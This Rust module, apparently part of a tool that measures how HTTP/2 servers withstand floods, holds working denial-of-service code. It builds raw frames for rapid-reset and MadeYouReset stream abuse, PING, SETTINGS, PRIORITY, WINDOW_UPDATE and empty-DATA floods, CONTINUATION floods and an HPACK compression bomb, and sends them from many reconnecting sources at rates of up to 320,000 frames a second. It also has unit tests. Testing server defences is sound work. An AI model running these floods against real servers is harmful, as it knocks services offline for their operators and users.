//! Attacks by frames of HTTP/2: what each attacker writes, over connections with prior knowledge (RFC 9113 section 3.3).
//!
//! Each attacker keeps one connection, comes again when it is ended, and keeps its pace whatever the server does. Now and then
//! it sends a PING that says how much was sent before it: an answer to it tells how much the server has let through.

use std::cell::RefCell;
use std::rc::Rc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedReadHalf;
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, timeout, timeout_at};

use super::families::{LAST_WORD, SOURCES, Shared, Tally, Target, due, source, turned_away};
use crate::tls::HOST;
use crate::visit::connect_from;

/// How often each writes.
const BEAT: Duration = Duration::from_millis(5);
/// What was not sent for so long is not made up for.
const CATCH_UP: Duration = Duration::from_millis(50);
/// How long whoever was thrown out waits before it comes again.
const AWAY: Duration = Duration::from_millis(50);
/// So many batches each have a PING behind them, and later ones as seldom as this: no server minds.
const ASKED_AT_FIRST: u32 = 50;
const ASKED_EVERY: Duration = Duration::from_millis(100);
/// Streams of a burst.
const BURST: u64 = 200;
/// CONTINUATION frames of one head.
const CRUMBS: u64 = 50;
/// Bytes of the field that is told once and then by one byte each, and how often that is.
const BOMB_FIELD: usize = 3_900;
const BOMB_TIMES: usize = 4_000;

/// The connection preface (RFC 9113 section 3.4).
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// What an endpoint says in a GOAWAY that excludes no stream yet (RFC 9113 section 6.8).
const EVERY_STREAM: u32 = 0x7fff_ffff;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const ACK: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;

/// A way of attacking.
#[derive(Clone, Copy, PartialEq, Eq, Debug, clap::ValueEnum)]
pub(super) enum Kind {
    ResetBursts,
    ResetPaced,
    ForcedByNothing,
    ForcedByOverflow,
    Ping,
    Settings,
    Priority,
    WindowUpdate,
    EmptyData,
    Continuation,
    HpackBomb,
}

impl Kind {
    /// What a person calls it.
    pub(super) fn title(self) -> &'static str {
        match self {
            Self::ResetBursts => "rapid reset, bursts of 200",
            Self::ResetPaced => "rapid reset, at a pace",
            Self::ForcedByNothing => "MadeYouReset, window of 0",
            Self::ForcedByOverflow => "MadeYouReset, window overflow",
            Self::Ping => "PING",
            Self::Settings => "SETTINGS",
            Self::Priority => "PRIORITY",
            Self::WindowUpdate => "WINDOW_UPDATE",
            Self::EmptyData => "empty DATA",
            Self::Continuation => "CONTINUATION, 50 to a head",
            Self::HpackBomb => "HPACK bomb, 16 MB a head",
        }
    }

    /// What one of it is.
    pub(super) fn unit(self) -> &'static str {
        if self.is_of_streams() {
            "stream"
        } else {
            "frame"
        }
    }

    /// How many of them come in a second, from all attackers together.
    pub(super) fn rate(self) -> u64 {
        match self {
            Self::HpackBomb => 1_000,
            Self::ForcedByNothing | Self::ForcedByOverflow => 16_000,
            Self::ResetBursts | Self::ResetPaced => 32_000,
            Self::Continuation => 160_000,
            Self::Ping | Self::Settings | Self::Priority | Self::WindowUpdate | Self::EmptyData => {
                320_000
            }
        }
    }

    fn is_of_streams(self) -> bool {
        matches!(
            self,
            Self::ResetBursts
                | Self::ResetPaced
                | Self::ForcedByNothing
                | Self::ForcedByOverflow
                | Self::HpackBomb
        )
    }

    /// How many are written together, or not at all.
    fn grain(self) -> u64 {
        match self {
            Self::ResetBursts => BURST,
            Self::Continuation => CRUMBS,
            _ => 1,
        }
    }
}

/// Attacks until the time is over.
pub(super) async fn attack(kind: Kind, target: &Target) -> Tally {
    let (shared, mut there) = (Shared::default(), JoinSet::new());
    for number in 0..SOURCES {
        there.spawn_local(comes_again(kind, target.clone(), number, shared.clone()));
    }
    while there.join_next().await.is_some() {}
    shared.told()
}

async fn comes_again(kind: Kind, target: Target, number: u64, shared: Shared) {
    tokio::time::sleep_until(target.begins).await;
    while Instant::now() < target.ends() {
        let connecting = connect_from(source(number), target.doors.h2, None);
        match timeout_at(target.ends(), connecting).await {
            Ok(Ok(stream)) => flood(kind, stream, &target, &shared).await,
            Ok(Err(error)) => shared.ends(turned_away(&error), false),
            Err(_) => shared.ends("never connected", false),
        }
        sleep(AWAY).await;
    }
}

/// Writes on one connection until the attack is over, or the server ends it.
async fn flood(kind: Kind, stream: TcpStream, target: &Target, shared: &Shared) {
    let (reader, mut writer) = stream.into_split();
    let heard = Rc::new(RefCell::new(Heard::default()));
    let mut listening = tokio::task::spawn_local(listen(reader, Rc::clone(&heard)));
    let mut says = Says::new(kind, shared.clone());
    let mut pace = Pace::new(kind);
    let began = Instant::now();
    let mut sent = 0;
    let mut is_taken = true;
    while is_taken && Instant::now() < target.ends() {
        let (is_over, settles, ended_stream) = heard.borrow_mut().news();
        if is_over {
            break;
        }
        if settles {
            frame(&mut says.out, SETTINGS, ACK, 0, &[]);
        }
        let now = began.elapsed();
        let count = pace.count(now);
        for _ in 0..count {
            says.one_more(ended_stream);
        }
        if count > 0 && pace.asks(now) && kind != Kind::Ping {
            let said = sent + count;
            frame(&mut says.out, PING, 0, 0, &said.to_be_bytes());
        }
        let out = std::mem::take(&mut says.out);
        // What was cut short has been begun all the same.
        sent += count;
        let written = timeout_at(target.ends(), writer.write_all(&out)).await;
        is_taken = matches!(written, Ok(Ok(())));
        sleep(BEAT).await;
    }
    if is_taken {
        let mut last = Vec::new();
        frame(&mut last, PING, 0, 0, &sent.to_be_bytes());
        let _ = timeout(LAST_WORD, writer.write_all(&last)).await;
    }
    // The last word may be under way.
    let is_over = timeout(LAST_WORD, async {
        loop {
            let done = listening.is_finished() || heard.borrow().acknowledged >= sent;
            if done {
                break;
            }
            sleep(BEAT).await;
        }
    });
    let _ = is_over.await;
    let heard = heard.take();
    shared.begun(sent, heard.through(kind, sent));
    shared.ends(
        heard.ending.unwrap_or_else(|| "still open".to_owned()),
        false,
    );
    listening.abort();
    let _ = (&mut listening).await;
}

/// How much is due on one connection, and when is asked how much of it has arrived.
struct Pace {
    kind: Kind,
    /// Counted, whether they were sent or given up.
    counted: u64,
    asked: u32,
    asked_at: Duration,
}

impl Pace {
    fn new(kind: Kind) -> Self {
        Self {
            kind,
            counted: 0,
            asked: 0,
            asked_at: Duration::ZERO,
        }
    }

    /// How many are to be written now, so long after the first moment.
    fn count(&mut self, now: Duration) -> u64 {
        let (rate, grain) = (self.kind.rate() / SOURCES, self.kind.grain());
        let most = due(rate, CATCH_UP).max(grain);
        let behind = due(rate, now).saturating_sub(self.counted);
        let given_up = behind.saturating_sub(most);
        let now = behind.min(most) / grain * grain;
        self.counted += given_up + now;
        now
    }

    fn asks(&mut self, now: Duration) -> bool {
        let asks = self.asked < ASKED_AT_FIRST || now >= self.asked_at + ASKED_EVERY;
        if asks {
            self.asked = self.asked.saturating_add(1);
            self.asked_at = now;
        }
        asks
    }
}

/// What one attacker says on one connection.
struct Says {
    kind: Kind,
    shared: Shared,
    out: Vec<u8>,
    said: u64,
    next: u32,
    /// The stream whose body never comes.
    body: Option<u32>,
}

impl Says {
    /// Begins with preface, SETTINGS, and a wide window for the connection.
    fn new(kind: Kind, shared: Shared) -> Self {
        let mut out = PREFACE.to_vec();
        frame(&mut out, SETTINGS, 0, 0, &[]);
        frame(
            &mut out,
            WINDOW_UPDATE,
            0,
            0,
            &0x3fff_0000_u32.to_be_bytes(),
        );
        Self {
            kind,
            shared,
            out,
            said: 0,
            next: 1,
            body: None,
        }
    }

    /// One unit; the server has ended streams up to this one.
    fn one_more(&mut self, ended: u32) {
        self.said += 1;
        match self.kind {
            Kind::ResetBursts | Kind::ResetPaced => {
                let stream = self.asks(END_STREAM);
                self.frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
            }
            Kind::ForcedByNothing => {
                let stream = self.asks(END_STREAM);
                self.frame(WINDOW_UPDATE, 0, stream, &[0; 4]);
            }
            Kind::ForcedByOverflow => {
                let stream = self.asks(END_STREAM);
                self.frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes());
            }
            Kind::Ping => self.frame(PING, 0, 0, &self.said.to_be_bytes()),
            Kind::Settings => self.frame(SETTINGS, 0, 0, &[]),
            Kind::Priority => self.frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 15]),
            Kind::WindowUpdate => self.frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
            Kind::EmptyData => {
                let stream = match self.body.filter(|body| *body > ended) {
                    Some(stream) => stream,
                    None => self.asks(0),
                };
                self.body = Some(stream);
                self.frame(DATA, 0, stream, &[]);
            }
            Kind::Continuation => self.crumb(),
            Kind::HpackBomb => self.bomb(),
        }
    }

    /// Opens a stream for what no cache has heard of.
    fn asks(&mut self, flags: u8) -> u32 {
        let stream = self.opens();
        let block = self.block(flags & END_STREAM != 0);
        self.frame(HEADERS, END_HEADERS | flags, stream, &block);
        stream
    }

    fn opens(&mut self) -> u32 {
        let stream = self.next;
        self.next = self.next.wrapping_add(2);
        stream
    }

    fn block(&self, is_get: bool) -> Vec<u8> {
        let method = if is_get { 0x82 } else { 0x83 }; // RFC 7541 appendix A: GET, POST
        let path = format!("/attack/frames/{}", self.shared.number());
        let mut block = vec![method, 0x86]; // and `http`
        literal(&mut block, 4, path.as_bytes());
        literal(&mut block, 1, HOST.as_bytes());
        block
    }

    /// A head in very many pieces, each a field of one letter.
    fn crumb(&mut self) {
        let place = (self.said - 1) % CRUMBS;
        if place == 0 {
            let stream = self.opens();
            let block = self.block(true);
            self.frame(HEADERS, END_STREAM, stream, &block);
        }
        let last = if place + 1 == CRUMBS { END_HEADERS } else { 0 };
        let stream = self.next.wrapping_sub(2);
        self.frame(CONTINUATION, last, stream, b"\0\x01x\x01y");
    }

    /// A head that says one long field thousands of times, by one byte each. It is remembered from the first one on.
    fn bomb(&mut self) {
        let stream = self.opens();
        let mut block = self.block(true);
        if self.said == 1 {
            block.extend(b"\x40\x06x-bomb"); // RFC 7541 section 6.2.1
            text(&mut block, &[b'b'; BOMB_FIELD]);
        }
        block.resize(block.len() + BOMB_TIMES, 0x80 | 62); // what was remembered last
        self.frame(HEADERS, END_HEADERS | END_STREAM, stream, &block);
    }

    fn frame(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
        frame(&mut self.out, kind, flags, stream, payload);
    }
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or_default();
    let [_, length @ ..] = length.to_be_bytes();
    out.extend(length);
    out.extend([kind, flags]);
    out.extend(stream.to_be_bytes());
    out.extend(payload);
}

/// A field with a name of the static table that is not remembered (RFC 7541 section 6.2.2).
fn literal(block: &mut Vec<u8>, name: u8, value: &[u8]) {
    block.push(name);
    text(block, value);
}

/// A string without Huffman coding (RFC 7541 section 5.2).
fn text(block: &mut Vec<u8>, text: &[u8]) {
    let low = |length: usize| u8::try_from(length % 128).unwrap_or_default();
    let mut length = text.len();
    if length < 127 {
        block.push(low(length));
    } else {
        block.push(127);
        length -= 127;
        while length >= 128 {
            block.push(low(length) | 128);
            length /= 128;
        }
        block.push(low(length));
    }
    block.extend(text);
}

/// What was heard of the server on one connection.
#[derive(Default, Debug)]
struct Heard {
    /// The most that an answered PING said.
    acknowledged: u64,
    /// The last stream that it says it has taken up, or may have.
    last_stream: Option<u32>,
    /// The last stream that it ended.
    ended_stream: u32,
    /// Whether its SETTINGS have yet to be acknowledged.
    settles: bool,
    ending: Option<String>,
}

impl Heard {
    /// Whether it is over, whether there are SETTINGS to acknowledge, and which streams have ended.
    fn news(&mut self) -> (bool, bool, u32) {
        let settles = std::mem::take(&mut self.settles);
        (self.ending.is_some(), settles, self.ended_stream)
    }

    /// Of so many sent, how many are known to have been let through.
    fn through(&self, kind: Kind, sent: u64) -> u64 {
        let streams = match self.last_stream {
            Some(last) if kind.is_of_streams() && last < EVERY_STREAM => {
                u64::from(last.div_ceil(2))
            }
            _ => 0,
        };
        self.acknowledged.max(streams).min(sent)
    }

    fn takes(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
        let number = |bytes: Option<&[u8]>| {
            let four = bytes.and_then(|bytes| bytes.first_chunk());
            four.map_or(0, |four| u32::from_be_bytes(*four))
        };
        match kind {
            PING if flags & ACK != 0 => {
                let said = payload
                    .first_chunk()
                    .map_or(0, |said| u64::from_be_bytes(*said));
                self.acknowledged = self.acknowledged.max(said);
            }
            SETTINGS if flags & ACK == 0 => self.settles = true,
            RST_STREAM => self.ended_stream = self.ended_stream.max(stream),
            DATA | HEADERS if flags & END_STREAM != 0 => {
                self.ended_stream = self.ended_stream.max(stream);
            }
            GOAWAY => {
                self.last_stream = Some(number(payload.get(..4)) & EVERY_STREAM);
                let code = number(payload.get(4..));
                self.ending = Some(format!("GOAWAY {}", code_name(code)));
            }
            _ => {}
        }
    }
}

/// RFC 9113 section 7.
fn code_name(code: u32) -> String {
    const NAMES: [&str; 14] = [
        "NO_ERROR",
        "PROTOCOL_ERROR",
        "INTERNAL_ERROR",
        "FLOW_CONTROL_ERROR",
        "SETTINGS_TIMEOUT",
        "STREAM_CLOSED",
        "FRAME_SIZE_ERROR",
        "REFUSED_STREAM",
        "CANCEL",
        "COMPRESSION_ERROR",
        "CONNECT_ERROR",
        "ENHANCE_YOUR_CALM",
        "INADEQUATE_SECURITY",
        "HTTP_1_1_REQUIRED",
    ];
    let name = usize::try_from(code).ok().and_then(|code| NAMES.get(code));
    name.map_or_else(|| code.to_string(), ToString::to_string)
}

/// Reads all that comes, until the connection ends or is said to.
async fn listen(mut reader: OwnedReadHalf, heard: Rc<RefCell<Heard>>) {
    let mut received = Vec::with_capacity(64 * 1024);
    loop {
        let read = reader.read_buf(&mut received).await;
        let mut heard = heard.borrow_mut();
        let taken = frames(&received, |kind, flags, stream, payload| {
            heard.takes(kind, flags, stream, payload);
        });
        received.drain(..taken);
        let ending = match read {
            Ok(0) => "closed",
            Ok(_) if heard.ending.is_some() => return,
            Ok(_) => continue,
            Err(_) => "reset",
        };
        heard.ending.get_or_insert_with(|| ending.to_owned());
        return;
    }
}

/// Takes the whole frames that there are; says how many bytes they have.
fn frames(received: &[u8], mut take: impl FnMut(u8, u8, u32, &[u8])) -> usize {
    let mut rest = received;
    while let Some(&[a, b, c, kind, flags, d, e, f, g]) = rest.first_chunk() {
        let length = u32::from_be_bytes([0, a, b, c]);
        let length = usize::try_from(length).unwrap_or(usize::MAX);
        let Some((payload, next)) = rest.get(9..).and_then(|rest| rest.split_at_checked(length))
        else {
            break;
        };
        take(kind, flags, u32::from_be_bytes([d, e, f, g]), payload);
        rest = next;
    }
    received.len() - rest.len()
}

#[cfg(test)]
mod tests {
    use super::*;
    use clap::ValueEnum;

    fn said(kind: Kind, count: u64) -> Vec<(u8, u8, u32, Vec<u8>)> {
        let mut says = Says::new(kind, Shared::default());
        (0..count).for_each(|_| says.one_more(0));
        let written = says.out.strip_prefix(PREFACE).unwrap();
        let mut all = Vec::new();
        let taken = frames(written, |kind, flags, stream, payload| {
            all.push((kind, flags, stream, payload.to_vec()));
        });
        assert_eq!(taken, written.len(), "{kind:?}: whole frames only");
        all.split_off(2)
    }

    #[test]
    fn every_kind_says_whole_frames_of_a_size_that_may_be() {
        for kind in Kind::value_variants() {
            let frames = said(*kind, kind.grain());
            assert!(!frames.is_empty());
            assert!(frames.iter().all(|frame| frame.3.len() <= 16 * 1024));
        }
    }

    #[test]
    fn a_reset_follows_each_request() {
        let kinds: Vec<_> = said(Kind::ResetPaced, 2)
            .iter()
            .map(|frame| (frame.0, frame.2))
            .collect();
        let wanted = [(HEADERS, 1), (RST_STREAM, 1), (HEADERS, 3), (RST_STREAM, 3)];
        assert_eq!(kinds, wanted);
    }

    #[test]
    fn a_head_in_crumbs_ends_with_the_last_of_them() {
        let frames = said(Kind::Continuation, 2 * CRUMBS);
        let ends = frames.iter().filter(|frame| frame.1 & END_HEADERS != 0);
        assert_eq!(ends.count(), 2);
        assert_eq!(frames.len() as u64, 2 * (CRUMBS + 1));
        assert!(frames.last().unwrap().1 & END_HEADERS != 0);
    }

    #[test]
    fn a_bomb_is_told_in_full_once() {
        let frames = said(Kind::HpackBomb, 2);
        assert!(frames[0].3.len() > BOMB_FIELD + BOMB_TIMES);
        assert!(frames[1].3.len() < BOMB_FIELD + BOMB_TIMES);
    }

    #[test]
    fn a_body_goes_on_on_another_stream_once_its_own_was_ended() {
        let mut says = Says::new(Kind::EmptyData, Shared::default());
        [0, 0, 1, 1].iter().for_each(|ended| says.one_more(*ended));
        let mut opened = Vec::new();
        frames(
            says.out.strip_prefix(PREFACE).unwrap(),
            |kind, _, stream, _| {
                opened.extend((kind == HEADERS).then_some(stream));
            },
        );
        assert_eq!(opened, [1, 3]);
    }

    #[test]
    fn what_is_missed_is_made_up_for_only_a_little() {
        let mut pace = Pace::new(Kind::Ping); // 20 a millisecond
        assert_eq!(pace.count(Duration::from_millis(5)), 100);
        assert_eq!(pace.count(Duration::from_millis(5)), 0);
        assert_eq!(pace.count(Duration::from_secs(5)), 1_000);
        assert_eq!(pace.count(Duration::from_millis(5_005)), 100);
    }

    #[test]
    fn a_burst_comes_whole_or_not_at_all() {
        let mut pace = Pace::new(Kind::ResetBursts); // 2 a millisecond
        assert_eq!(pace.count(Duration::from_millis(99)), 0);
        assert_eq!(pace.count(Duration::from_millis(100)), BURST);
        assert_eq!(pace.count(Duration::from_millis(110)), 0);
    }

    #[test]
    fn what_was_let_through_is_what_the_server_says_and_no_more_than_was_sent() {
        let mut heard = Heard::default();
        heard.takes(PING, ACK, 0, &7_u64.to_be_bytes());
        heard.takes(PING, 0, 0, &9_u64.to_be_bytes());
        assert_eq!(heard.through(Kind::Settings, 10), 7);
        assert_eq!(heard.through(Kind::Settings, 5), 5);
        heard.takes(GOAWAY, 0, 0, &[0, 0, 0, 21, 0, 0, 0, 11]);
        assert_eq!(heard.ending.as_deref(), Some("GOAWAY ENHANCE_YOUR_CALM"));
        assert_eq!(heard.through(Kind::ResetPaced, 100), 11);
        assert_eq!(heard.through(Kind::Settings, 100), 7);
        heard.takes(GOAWAY, 0, 0, &[0x7f, 0xff, 0xff, 0xff, 0, 0, 0, 0]);
        assert_eq!(heard.through(Kind::ResetPaced, 100), 7);
    }

    #[test]
    fn half_a_frame_waits_for_the_other_half() {
        let mut out = Vec::new();
        frame(&mut out, PING, ACK, 0, &[0; 8]);
        frame(&mut out, PING, ACK, 0, &[0; 8]);
        let mut count = 0;
        assert_eq!(frames(&out[..20], |_, _, _, _| count += 1), 17);
        assert_eq!(count, 1);
        assert_eq!(frames(&out[..8], |_, _, _, _| ()), 0);
    }
}
